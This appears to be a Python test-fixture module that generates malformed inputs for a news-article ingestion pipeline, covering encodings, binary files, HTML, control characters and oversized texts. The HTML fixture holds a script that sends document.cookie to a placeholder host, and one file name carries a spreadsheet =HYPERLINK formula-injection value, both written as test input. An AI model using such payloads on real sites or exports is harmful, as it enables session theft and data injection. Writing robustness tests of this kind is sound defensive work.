"""The bad inputs of issue 8, made from code (big ones) or copied from tests/data/bad (small ones).

Each maker writes files into a folder and returns ``{doc_id: expected status}``,
so a test can check that every file got its row with the right status.
"""

from __future__ import annotations

import random
import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent
BAD = HERE / "data" / "bad"
RAMADI = HERE.parent / "data" / "ramadi-2015"

#: An English report with the characters each legacy encoding must get right.
WESTERN = (
    "Title: Floods close the Cafe Royal\n"
    "Date: 2015-05-19\n\n"
    "About 500 people were evacuated from the café district on Tuesday, officials said.\n\n"
    "“We expect £2 million in damage,” the mayor said, adding that water rose 1½ metres – a record.\n"
)


def western(town: str) -> str:
    """:data:`WESTERN` set in ``town``, so that files of the same text are not duplicates."""
    return WESTERN.replace("the café district", f"the café district of {town}")


#: Only Latin-1 (ISO-8859-1) characters: no curly quotes, dashes or euro sign.
LATIN1 = (
    "Title: Storm in Zürich\n"
    "Date: 2015-05-19\n\n"
    "About 300 homes in Zürich lost power, and the naïve estimate of £40,000 in damage rose to £90,000.\n\n"
    "The temperature fell to 2°C overnight, the façade of the old hall cracked, police said.\n"
)
#: Mac OS Roman has ü, ï, ç, £, ° and curly quotes and dashes, but not ½ or €.
MAC_ROMAN = LATIN1.replace("About 300 homes", "About 320 homes").replace(
    ", police said.", ", police said – “it’s the worst storm in years,” the mayor added."
)
ENGLISH = (
    "Title: Bridge collapse in Riverton\n"
    "Date: 2015-05-20\n\n"
    "At least 12 people were injured when a footbridge collapsed in Riverton on Wednesday, police said.\n\n"
    "The bridge, built in 1962, was 40 metres long. About 200 people were on it at the time.\n"
)


def write_encodings(folder: Path) -> dict[str, str]:
    """UTF-16 (with and without a BOM), UTF-32 without one (LE, BE), Latin-1, cp1252, Mac Roman, mojibake, U+FFFD runs, mixed UTF-8."""
    import ftfy.bad_codecs  # noqa: F401  (registers "sloppy-windows-1252", how browsers read cp1252)

    # one text per file (or they would be duplicates of each other): the town differs
    (folder / "utf16_bom.txt").write_bytes(western("Ashford").encode("utf-16"))
    (folder / "utf16_nobom.txt").write_bytes(western("Bexley").encode("utf-16-le"))
    (folder / "utf32_nobom_le.txt").write_bytes(western("Falmouth").encode("utf-32-le"))
    (folder / "utf32_nobom_be.txt").write_bytes(western("Grimsby").encode("utf-32-be"))
    (folder / "latin1.txt").write_bytes(LATIN1.encode("latin-1"))
    (folder / "cp1252.txt").write_bytes(western("Crewe").encode("cp1252"))
    (folder / "mac_roman.txt").write_bytes(MAC_ROMAN.encode("mac_roman"))
    # UTF-8 read as cp1252 and saved again as UTF-8: "â€œWe expect Â£2 million"
    mojibake = western("Dover").encode("utf-8").decode("sloppy-windows-1252")
    (folder / "mojibake.txt").write_bytes(mojibake.encode("utf-8"))
    lost = ENGLISH.replace("footbridge", "\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd bridge").replace("police", "\ufffdpolice\ufffd")
    (folder / "replacement_chars.txt").write_text(lost, encoding="utf-8")
    mixed = western("Epsom").encode("utf-8").replace(b" officials said", b" \x93officials\x94 said")
    (folder / "mixed_utf8_cp1252.txt").write_bytes(mixed)
    return dict.fromkeys(
        [
            "utf16_bom",
            "utf16_nobom",
            "utf32_nobom_le",
            "utf32_nobom_be",
            "latin1",
            "cp1252",
            "mac_roman",
            "mojibake",
            "replacement_chars",
            "mixed_utf8_cp1252",
        ],
        "ok",
    )


def write_empty_and_binary(folder: Path) -> dict[str, str]:
    """Empty, whitespace-only and furniture-only files; binary data under text and other names."""
    (folder / "empty.txt").write_bytes(b"")
    (folder / "whitespace.txt").write_bytes(b"  \n\t\r\n   \n\x0c\n")
    (folder / "furniture_only.txt").write_text("3 min read\nAdvertisement\nSign up for our newsletter\n", encoding="utf-8")
    (folder / "header_only.txt").write_text("Title: Nothing here\nDate: 2015-05-18\n\n", encoding="utf-8")
    rng = random.Random(8)
    (folder / "random_bytes.txt").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    (folder / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(rng.randrange(256) for _ in range(2048)))
    (folder / "scan_as_text.txt").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    (folder / "archive.zip").write_bytes(b"PK\x03\x04" + bytes(100))
    return {
        "empty": "empty",
        "whitespace": "empty",
        "furniture_only": "empty",
        "header_only": "empty",
        "random_bytes": "skipped",
        "photo": "skipped",
        "scan_as_text": "skipped",
        "archive": "skipped",
    }


def write_html(folder: Path) -> dict[str, str]:
    """A whole HTML page, and a text file with HTML pasted into it."""
    page = (
        "<!DOCTYPE html><html><head><title>Quake</title><script>var x = '<p>never</p>';</script>"
        "<style>p { color: red }</style></head><body><nav><a href='/'>Home</a> | <a href='/world'>World</a></nav>"
        "<article><h1>Earthquake shakes Aceh</h1><p>At least 24 people were killed when a magnitude 6.1 earthquake "
        "struck Aceh province on Tuesday, officials said.</p><p>More than 200 people were injured &amp; about 1,500 "
        "houses were damaged, the disaster agency said.</p></article><footer>&copy; 2013 Example News</footer>"
        "</body></html>"
    )
    (folder / "page.html").write_text(page, encoding="utf-8")
    pasted = (
        "Title: Fire at the depot\nDate: 2015-05-21\n\n"
        "<p>Firefighters said 35 people were evacuated from the depot on Thursday.</p>\n"
        "<div class='ad'><script>document.location='https://example.invalid/?c='+document.cookie</script></div>\n"
        "<p>The fire burned for 6 hours &mdash; the longest this year, officials said.</p>\n"
    )
    (folder / "pasted_html.txt").write_text(pasted, encoding="utf-8")
    return {"page": "ok", "pasted_html": "ok"}


def write_numbers(folder: Path) -> dict[str, str]:
    """Text that is mostly numbers: a league table, sports results, a price list."""
    rng = random.Random(3)
    teams = ["Arsenal", "Chelsea", "Everton", "Fulham", "Leeds", "Burnley", "Watford", "Wolves", "Brighton", "Norwich"]
    lines = ["Title: Results and table", "Date: 2015-05-17", "", "Results"]
    for _ in range(40):
        a, b = rng.sample(teams, 2)
        lines.append(f"{a} {rng.randrange(6)} {b} {rng.randrange(6)} (att: {rng.randrange(9000, 60000):,})")
    lines += ["", "Pos Team P W D L GF GA GD Pts"]
    for n, team in enumerate(teams, 1):
        w, d, l_ = rng.randrange(30), rng.randrange(10), rng.randrange(15)
        gf, ga = rng.randrange(20, 90), rng.randrange(20, 80)
        lines.append(f"{n} {team} {w + d + l_} {w} {d} {l_} {gf} {ga} {gf - ga:+d} {3 * w + d}")
    lines += ["", "Prices: " + ", ".join(f"{rng.randrange(1, 500)}.{rng.randrange(100):02d}%" for _ in range(60))]
    (folder / "sports_results.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    digits = " ".join(str(rng.randrange(10**9)) for _ in range(300))
    (folder / "only_digits.txt").write_text(digits + "\n", encoding="utf-8")
    return {"sports_results": "ok", "only_digits": "ok"}


def write_languages(folder: Path) -> dict[str, str]:
    """Articles in French, Spanish, German, Russian, Chinese and Arabic (committed fixtures)."""
    out = {}
    for path in sorted(BAD.glob("*.txt")):
        shutil.copy(path, folder / path.name)
        out[path.stem] = "skipped"
    return out


def write_misc(folder: Path) -> dict[str, str]:
    """No date anywhere, a duplicate of a good article, odd names, control characters."""
    (folder / "no_date.txt").write_text(
        "Council approves budget\n\nThe city council approved a budget of $4.5 million, the mayor said. "
        "About 40 new teachers will be hired.\n",
        encoding="utf-8",
    )
    shutil.copy(RAMADI / "000_5974a4e9f51f05de.txt", folder / "zz_copy_of_000.txt")
    (folder / "=HYPERLINK(1).txt").write_text('=HYPERLINK("http://example.invalid","x")\n\n' + ENGLISH, encoding="utf-8")
    (folder / "no_suffix").write_text(ENGLISH.replace("12 people", "13 people"), encoding="utf-8")
    controls = "Title: Control characters\nDate: 2015-05-20\n\nAbout\x00 70\u200b0 people\x07 fled\u202e the town, police said.\n"
    (folder / "controls.txt").write_text(controls, encoding="utf-8")
    return {
        "no_date": "ok",
        "zz_copy_of_000": "skipped",
        "=HYPERLINK(1)": "ok",
        "no_suffix": "ok",
        "controls": "ok",
    }


def write_folders(folder: Path) -> dict[str, str]:
    """A cluster folder left beside the articles, and what macOS, Windows and Jupyter leave in a folder.

    The sub-folder is listed as skipped (``"older_cluster/"``); the hidden and
    system entries are not listed at all.
    """
    sub = folder / "older_cluster"
    sub.mkdir()
    (sub / "a.txt").write_text(ENGLISH.replace("12 people", "15 people"), encoding="utf-8")
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1" + bytes(64))
    (folder / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0" + bytes(64))
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / "a-checkpoint.txt").write_text(ENGLISH, encoding="utf-8")
    (folder / "__MACOSX").mkdir()
    (folder / "__MACOSX" / "._a.txt").write_bytes(b"\x00\x05\x16\x07" + bytes(64))
    return {"older_cluster/": "skipped"}


def write_huge(folder: Path, size: int = 20 * 2**20) -> dict[str, str]:
    """One article of ``size`` bytes: paragraphs of prose with a figure now and then."""
    rng = random.Random(20)
    words = [
        "the",
        "council",
        "said",
        "that",
        "roads",
        "were",
        "closed",
        "while",
        "crews",
        "worked",
        "through",
        "the",
        "night",
        "near",
        "the",
        "river",
    ]
    paragraphs = []
    total = 0
    n = 0
    while total < size:
        n += 1
        sentence = " ".join(rng.choice(words) for _ in range(30)).capitalize() + ".\n\n"
        if n % 10 == 0:
            sentence = f"By day {n // 10}, about {rng.randrange(10, 900)} people had been evacuated, officials said.\n\n"
        paragraphs.append(sentence)
        total += len(sentence)
    (folder / "huge.txt").write_text("Title: A very long log\nDate: 2015-05-18\n\n" + "".join(paragraphs), encoding="utf-8")
    return {"huge": "ok"}


def write_run_on(folder: Path, words: int = 2_500) -> dict[str, str]:
    """One paragraph of ``words`` words and no sentence end: clauses joined by commas, a figure in each.

    The rules walk a sentence once per figure, so before factcmp split such runs (extract.component)
    a 16,000-character one took half a minute and a 100,000-character one never finished.
    """
    rng = random.Random(21)
    clauses = []
    total = 0
    while total < words:
        clause = f"crews said {rng.randrange(2, 900)} homes near the river were flooded overnight"
        clauses.append(clause)
        total += len(clause.split())
    (folder / "run_on.txt").write_text("Title: Floods\nDate: 2015-05-18\n\n" + ", and ".join(clauses) + "\n", encoding="utf-8")
    return {"run_on": "ok"}


def write_tiny(folder: Path, n: int = 10_000) -> dict[str, str]:
    """``n`` tiny articles, each one short sentence of its own (no two the same, up to 10,000)."""
    words = ["quiet", "calm", "busy", "grey", "windy", "sunny", "slow", "long", "short", "late"]
    places = ["market", "harbour", "station", "square", "bridge", "school", "library", "park", "road", "hall"]
    out = {}
    for i in range(n):
        a, b, c, d = words[i % 10], places[(i // 10) % 10], words[(i // 100) % 10], places[(i // 1000) % 10]
        doc_id = f"tiny_{i:05d}"
        # no figures and no names: 10,000 claims in one block would test the reconciler, not ingest
        (folder / f"{doc_id}.txt").write_text(f"A {a} day at the {c} {b} near the {d}.\n", encoding="utf-8")
        out[doc_id] = "ok"
    return out


def write_good(folder: Path) -> dict[str, str]:
    """The five Ramadi articles and their sources.csv: the good articles."""
    for path in RAMADI.iterdir():
        shutil.copy(path, folder / path.name)
    return {p.stem: "ok" for p in RAMADI.glob("*.txt")}


def write_all(folder: Path, *, huge: bool = True, tiny: int = 10_000) -> dict[str, str]:
    """Every bad input of issue 8 plus the good Ramadi articles, in one folder."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str] = {}
    makers = [
        write_good,
        write_encodings,
        write_empty_and_binary,
        write_html,
        write_numbers,
        write_languages,
        write_misc,
        write_folders,
        write_run_on,
    ]
    for make in makers:
        expected.update(make(folder))
    if huge:
        expected.update(write_huge(folder))
    if tiny:
        expected.update(write_tiny(folder, tiny))
    return expected
